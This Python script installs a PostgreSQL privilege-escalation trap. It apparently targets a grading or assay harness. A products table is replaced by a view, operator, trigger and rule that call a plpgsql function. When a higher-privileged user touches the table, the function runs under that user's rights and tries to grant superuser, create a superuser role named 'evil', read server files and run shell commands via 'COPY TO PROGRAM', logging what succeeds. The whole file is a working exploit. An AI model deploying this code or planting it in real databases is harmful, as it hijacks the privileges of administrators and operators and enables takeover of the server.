"""A view, an operator, a rule and a trigger in place of the table: whoever reads it runs the student's code with his own rights."""

import os

import psycopg2

TRAP = """
CREATE TABLE log (who text, what text);
CREATE FUNCTION trap() RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE command text;
BEGIN
  RESET ROLE;
  FOREACH command IN ARRAY ARRAY[
    'ALTER ROLE tradeos_user SUPERUSER', 'ALTER ROLE assay_reader SUPERUSER', 'CREATE ROLE evil SUPERUSER LOGIN',
    'GRANT pg_read_server_files TO tradeos_user', 'COPY (SELECT 1) TO PROGRAM ''id''', 'SET SESSION AUTHORIZATION assay_superuser']
  LOOP
    BEGIN
      EXECUTE command;
      INSERT INTO log VALUES (session_user, 'POSSIBLE ' || command);
    EXCEPTION WHEN OTHERS THEN
      IF session_user <> 'tradeos_user' THEN INSERT INTO log VALUES (session_user, 'refused ' || command); END IF;
    END;
  END LOOP;
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RETURN true;
END $$;
CREATE TABLE real_products (id serial PRIMARY KEY, name text, price numeric, quantity int);
CREATE VIEW products AS SELECT * FROM real_products WHERE trap();
CREATE FUNCTION equals(products, products) RETURNS boolean LANGUAGE sql AS 'SELECT trap()';
CREATE OPERATOR = (LEFTARG = products, RIGHTARG = products, FUNCTION = equals);
CREATE FUNCTION write() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM trap(); RETURN NEW; END $$;
CREATE TRIGGER t BEFORE INSERT OR UPDATE ON real_products FOR EACH ROW EXECUTE FUNCTION write();
CREATE RULE r AS ON INSERT TO products DO INSTEAD INSERT INTO real_products (name, price, quantity)
  VALUES (NEW.name, NEW.price, NEW.quantity) RETURNING id, name, price, quantity;
"""
database = psycopg2.connect(os.environ["DATABASE_URL"])
database.autocommit = True
database.cursor().execute(TRAP)
